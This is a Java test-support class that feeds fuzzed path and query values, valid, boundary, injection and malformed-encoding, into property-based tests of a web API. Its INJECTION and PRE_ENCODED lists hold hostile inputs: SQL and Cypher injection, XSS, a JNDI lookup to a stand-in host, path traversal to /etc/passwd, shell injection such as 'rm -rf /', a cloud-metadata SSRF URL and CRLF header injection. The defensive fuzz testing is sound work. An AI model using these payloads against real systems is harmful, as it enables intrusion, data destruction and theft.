package se.processkarta.hostile;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * Values for any path variable or query parameter: valid ones (so that deeper code runs), and
 * malformed, boundary, huge, encoded and injection values. Each value is ready for the request
 * target: raw text is percent-encoded, the pre-encoded ones are sent as they are (including broken
 * escapes, which the JDK's own client would refuse to send).
 */
final class HostileValues {

  private HostileValues() {}

  /** Plausible values: codes, files, dates, widths and ids the seed has. */
  static final List<String> VALID =
      List.of(
          "1",
          "3",
          "3.5",
          "3.5.2",
          "3.5.2.1",
          "2",
          "9",
          "map.svg",
          "tree.svg",
          "roles.svg",
          "map.png",
          "tree.png",
          "map.pdf",
          "anna-lind.svg",
          "ali-hassan.svg",
          "2026-11-22",
          "2026-01-01",
          "1",
          "20",
          "100",
          "level",
          "type",
          "skola",
          "förskola",
          "anna-lind",
          "ali-hassan",
          "bildning");

  static final List<String> BOUNDARY =
      List.of(
          "0",
          "-1",
          "6",
          "101",
          "199",
          "200",
          "201",
          "8000",
          "8001",
          "2147483647",
          "2147483648",
          "-2147483648",
          "-2147483649",
          "9223372036854775807",
          "9223372036854775808",
          "107374184",
          "1e9",
          "0x10",
          "1.0",
          "NaN",
          "Infinity",
          "true",
          "null",
          "",
          " ",
          "1.1.1.1.1",
          "1.1.1.1.1.1",
          "3.5.",
          ".3",
          "3..5",
          "03.05",
          "3.-5",
          "0000000000000000000000000000000000001",
          "9999-12-31",
          "0000-01-01",
          "2026-02-30",
          "+999999999-12-31",
          "2026-13-01",
          "20261122",
          "2026-11-22T00:00:00Z");

  static final List<String> INJECTION =
      List.of(
          "' OR '1'='1",
          "\") RETURN 1 //",
          "3}) DETACH DELETE n //",
          "MATCH (n) DETACH DELETE n",
          "*:*",
          "\\\"~*?:^[]{}()!&&||",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "]]><!--",
          "${jndi:ldap://evil.example/a}",
          "{{7*7}}",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "/etc/passwd",
          "map.svg/../../etc/passwd",
          "a;rm -rf /",
          "$(id)",
          "`id`",
          "%s%s%s%n",
          "file:///etc/passwd",
          "http://169.254.169.254/",
          "3.5 OR 1=1",
          "x\" onload=\"y",
          "\u202Egnp.exe",
          "Ä\u0308",
          "\uFEFFskola",
          "\uD83C\uDFEB",
          "\u0000",
          "\u0007",
          "\u0085",
          "\uFFFE",
          "\uFFFF",
          "\uFDD0",
          "line\r\nX-Injected: yes",
          "AAAA".repeat(300));

  /** Sent as they are: broken or tricky escapes. */
  static final List<String> PRE_ENCODED =
      List.of(
          "%00",
          "%FF",
          "%C0%AE%C0%AE%2F",
          "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
          "%2F",
          "%5C",
          "%ED%A0%80",
          "%EF%BF%BE",
          "%EF%BF%BF",
          "%F4%90%80%80",
          "%C3",
          "%E2%82",
          "%25",
          "%252e%252e%252f",
          "%",
          "%zz",
          "%%%",
          "%0d%0aSet-Cookie:%20x=1",
          "%0A",
          "%09",
          "%u0041",
          "a%00.svg",
          "map.svg%00.png",
          "3%2E5",
          "%7B%7D",
          "%3Cscript%3E",
          "a+b",
          "+",
          "%20",
          "%C2%85",
          "%E2%80%AE");

  /** Hostile values as text, not encoded: for request bodies. */
  static Arbitrary<String> raw() {
    return Arbitraries.frequencyOf(
        net.jqwik.api.Tuple.of(4, Arbitraries.of(VALID)),
        net.jqwik.api.Tuple.of(3, Arbitraries.of(BOUNDARY)),
        net.jqwik.api.Tuple.of(3, Arbitraries.of(INJECTION)),
        net.jqwik.api.Tuple.of(2, Arbitraries.strings().ofMaxLength(30)),
        net.jqwik.api.Tuple.of(1, Arbitraries.strings().withChars("0123456789.-").ofMaxLength(16)),
        net.jqwik.api.Tuple.of(1, Arbitraries.integers().map(String::valueOf)),
        net.jqwik.api.Tuple.of(1, Arbitraries.strings().all().ofMinLength(1).ofMaxLength(8)),
        net.jqwik.api.Tuple.of(1, Arbitraries.integers().between(2_000, 6_000).map("9"::repeat)));
  }

  static Arbitrary<String> any() {
    Arbitrary<String> raw = raw().map(HostileValues::encode);
    return Arbitraries.frequencyOf(
        net.jqwik.api.Tuple.of(6, raw), net.jqwik.api.Tuple.of(1, Arbitraries.of(PRE_ENCODED)));
  }

  /** Percent-encoded UTF-8 (a lone surrogate becomes '?', as any client would send it). */
  static String encode(String raw) {
    return URLEncoder.encode(raw, StandardCharsets.UTF_8).replace("+", "%20");
  }
}
